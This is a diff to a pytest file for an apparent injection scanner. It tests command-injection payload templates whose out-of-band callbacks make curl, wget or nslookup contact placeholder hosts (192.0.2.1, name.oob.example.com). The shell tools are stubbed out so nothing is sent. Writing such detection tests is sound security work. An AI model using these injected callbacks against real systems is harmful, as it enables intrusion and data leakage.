@@ -4,7 +4,18 @@ import subprocess
 
 import pytest
 
-from gatecrash.core.testing.payloads.rce import AND, OR, PIPE, SEQUENCE, Numbers, expected, fill
+from gatecrash.core.testing.payloads.rce import (
+    AND,
+    CALLING,
+    CALLING_WINDOWS,
+    OR,
+    PIPE,
+    SEQUENCE,
+    Numbers,
+    expected,
+    fill,
+    fill_call,
+)
 
 NUMBERS = Numbers("ab", 12, 34, "cd")
 
@@ -25,3 +36,29 @@ def test_a_tame_task_is_not_computed():
     done = subprocess.run(["/bin/sh", "-c", "true " + payload], capture_output=True, text=True, check=False, timeout=10)
     assert "12*34" in done.stdout
     assert "408" not in done.stdout
+
+
+@pytest.mark.parametrize("command", ["true {}", "true '{}'", 'true "{}"'], ids=["bare", "single", "double"])
+@pytest.mark.parametrize("missing", ["", "curl", "curl wget"])
+def test_an_address_is_asked_for_once_with_the_product_behind_it(command, missing, tmp_path):
+    """The first tool that is there asks; the shell's own functions stand for them, so that nothing is sent."""
+    called = tmp_path / "called"
+    tools = "".join(
+        f"{tool}() {{ {'return 127' if tool in missing.split() else f'echo {tool} $* >> {called}'}; }}\n"
+        for tool in ("curl", "wget", "nslookup")
+    )
+    payload = fill_call(CALLING, "tea", 12, 34, "http://192.0.2.1/name", "name.oob.example.com")
+    subprocess.run(
+        ["/bin/sh", "-c", tools + command.replace("{}", payload) + "\nwait"],
+        capture_output=True,
+        check=False,
+        timeout=10,
+    )
+    (line,) = called.read_text().splitlines()
+    asked = {"": "curl -sm5 http://192.0.2.1/name/408", "curl": "wget -qT5 -O- http://192.0.2.1/name/408"}
+    assert line == asked.get(missing, "nslookup 408.name.oob.example.com")
+
+
+def test_the_product_is_nowhere_in_what_is_sent():
+    for way in (CALLING, CALLING_WINDOWS):
+        assert "408" not in fill_call(way, "tea", 12, 34, "http://192.0.2.1/name", "name.oob.example.com")
